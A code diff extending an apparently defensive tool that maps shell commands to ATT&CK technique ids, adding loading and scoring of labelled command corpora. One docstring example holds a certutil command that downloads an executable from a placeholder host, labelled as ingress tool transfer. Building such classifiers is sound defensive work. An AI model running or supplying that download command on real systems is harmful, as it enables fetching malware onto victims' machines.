@@ -8,10 +8,16 @@ prompts are never trained on.
 
 Per data set: exact and parent-technique top-1 accuracy, top-3 recall, tactic
 accuracy, intent ROC AUC and the false-positive rate at intent 0.5.
+
+Other labelled command corpora (``commands=[path, ...]``: JSON lines with a
+``command`` and a ``technique`` or ``techniques``) are scored whole, beside the
+same baseline, to see how the mapper carries over to commands written by other
+people for other purposes.
 """
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -21,12 +27,22 @@ from sklearn.feature_extraction.text import TfidfVectorizer
 from sklearn.metrics import roc_auc_score
 
 from llmnav.catalog import Catalog, load_catalog
+from llmnav.errors import ConfigError, RecordError, SourceLocation
 from llmnav.mapping.base import MapInput, TextKind
 from llmnav.mapping.engine import MappingEngine, MappingResult
-from llmnav.mapping.model.corpus import DevData, attack_corpus, intent_corpus
+from llmnav.mapping.model.corpus import DevData, active_id, attack_corpus, intent_corpus
 from llmnav.mapping.model.scoring import parent_of
 
-__all__ = ["METRICS", "Baseline", "DatasetScores", "Prediction", "evaluate", "reliability"]
+__all__ = [
+    "METRICS",
+    "Baseline",
+    "DatasetScores",
+    "LabelledCommands",
+    "Prediction",
+    "evaluate",
+    "read_labelled_commands",
+    "reliability",
+]
 
 METRICS = (
     ("exact_top1", "exact@1"),
@@ -72,6 +88,77 @@ class DatasetScores:
     notes: list[str] = field(default_factory=list)
 
 
+@dataclass
+class LabelledCommands:
+    """A labelled command corpus: commands with their techniques, and the lines left out."""
+
+    path: Path
+    commands: list[str] = field(default_factory=list)
+    labels: list[tuple[str, ...]] = field(default_factory=list)
+    rejected: list[RecordError] = field(default_factory=list)
+
+
+def read_labelled_commands(path: Path, catalog: Catalog) -> LabelledCommands:
+    """Read JSON lines of ``{"command": ..., "technique": "T1105"}`` (or ``"techniques"``).
+
+    A bad line (not JSON, no command, an id the catalog does not know) is left
+    out and kept in ``rejected`` with its file, line and field; revoked ids are
+    replaced by the technique that superseded them.
+
+    >>> corpus = read_labelled_commands(Path("lolbas.jsonl"), load_catalog())  # doctest: +SKIP
+    >>> corpus.commands[0], corpus.labels[0]  # doctest: +SKIP
+    ('certutil.exe -urlcache -split -f http://x/a.exe a.exe', ('T1105',))
+    """
+    corpus = LabelledCommands(path)
+    try:
+        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
+    except OSError as exc:
+        raise ConfigError(
+            f"Cannot read labelled commands: {exc.strerror}", SourceLocation(str(path))
+        ) from exc
+    for number, line in enumerate(lines, start=1):
+        if not line.strip():
+            continue
+        try:
+            command, labels = _labelled_command(line, catalog, SourceLocation(str(path), number))
+        except RecordError as bad:
+            corpus.rejected.append(bad)
+            continue
+        corpus.commands.append(command)
+        corpus.labels.append(labels)
+    return corpus
+
+
+def _labelled_command(
+    line: str, catalog: Catalog, where: SourceLocation
+) -> tuple[str, tuple[str, ...]]:
+    def bad(message: str, field: str | None = None) -> RecordError:
+        return RecordError(message, SourceLocation(where.path, where.line, field))
+
+    try:
+        record = json.loads(line)
+    except json.JSONDecodeError as exc:
+        raise bad(f"Not JSON ({exc.msg})") from exc
+    if not isinstance(record, dict):
+        raise bad("Not a JSON object")
+    command = record.get("command")
+    if not isinstance(command, str) or not command.strip():
+        raise bad("No command", "command")
+    key = "techniques" if "techniques" in record else "technique"
+    raw = record.get(key)
+    given: list[object] = raw if isinstance(raw, list) else [raw]
+    ids = [i.strip() for i in given if isinstance(i, str) and i.strip()]
+    if not ids or len(ids) != len(given):
+        raise bad("No technique id", key)
+    labels = []
+    for technique_id in ids:
+        found = active_id(catalog, technique_id.upper())
+        if found is None:
+            raise bad(f"Unknown technique {technique_id!r}", key)
+        labels.append(found)
+    return command, tuple(dict.fromkeys(labels))
+
+
 class Baseline:
     """Character n-gram TF-IDF nearest neighbour over labelled texts."""
 
@@ -100,10 +187,16 @@ def evaluate(
     *,
     engine: MappingEngine | None = None,
     catalog: Catalog | None = None,
+    commands: Sequence[Path] = (),
     progress: Callable[[str], None] | None = None,
 ) -> list[DatasetScores]:
-    """Score llmnav and the baseline on each development file in ``bench``."""
+    """Score llmnav and the baseline on each development file in ``bench`` and on
+    each labelled command corpus in ``commands`` (see ``read_labelled_commands``)."""
     catalog = catalog or load_catalog()
+    corpora = [read_labelled_commands(path, catalog) for path in commands]
+    for corpus in corpora:
+        if not corpus.commands:
+            raise ConfigError("No usable labelled commands", SourceLocation(str(corpus.path)))
     engine = engine or MappingEngine.default(catalog)
     dev = DevData.load(bench, catalog)
     say = progress or (lambda message: None)
@@ -143,20 +236,39 @@ def evaluate(
         return predictions
 
     scores: list[DatasetScores] = []
-    sets = [
-        ("atomic (holdout commands)", dev.commands, dev.command_holdout, "command"),
-        ("tram (holdout sentences)", dev.sentences, dev.sentence_holdout, "sentence"),
+    command_picks = [i for i, h in enumerate(dev.command_holdout) if h]
+    sentence_picks = [i for i, h in enumerate(dev.sentence_holdout) if h]
+    sets: list[tuple[str, list[str], list[tuple[str, ...]], TextKind, list[str]]] = [
+        (
+            "atomic (holdout commands)",
+            [dev.commands[i][0] for i in command_picks],
+            [(dev.commands[i][1],) for i in command_picks],
+            "command",
+            [],
+        ),
+        (
+            "tram (holdout sentences)",
+            [dev.sentences[i][0] for i in sentence_picks],
+            [dev.sentence_labels[i] for i in sentence_picks],
+            "sentence",
+            [],
+        ),
     ]
-    for name, rows, holdout, kind in sets:
-        picked = [i for i, h in enumerate(holdout) if h]
-        texts = [rows[i][0] for i in picked]
-        if name.startswith("tram"):
-            truth = [dev.sentence_labels[i] for i in picked]
-        else:
-            truth = [(rows[i][1],) for i in picked]
+    for corpus in corpora:
+        notes = (
+            [f"left out {len(corpus.rejected)} bad lines, first: {corpus.rejected[0]}"]
+            if corpus.rejected
+            else []
+        )
+        sets.append(
+            (f"{corpus.path.name} (commands)", corpus.commands, corpus.labels, "command", notes)
+        )
+    for name, texts, truth, kind, notes in sets:
         for system, predict in (("llmnav", lambda t, k=kind: ours(t, k)), ("baseline", baseline)):
             say(f"{name}: {system}")
-            scores.append(_technique_scores(name, system, predict(texts), truth, tactics_of))
+            scored = _technique_scores(name, system, predict(texts), truth, tactics_of)
+            scored.notes.extend(notes)
+            scores.append(scored)
 
     prompts = dev.prompts
     texts = [str(p["text"]) for p in prompts]
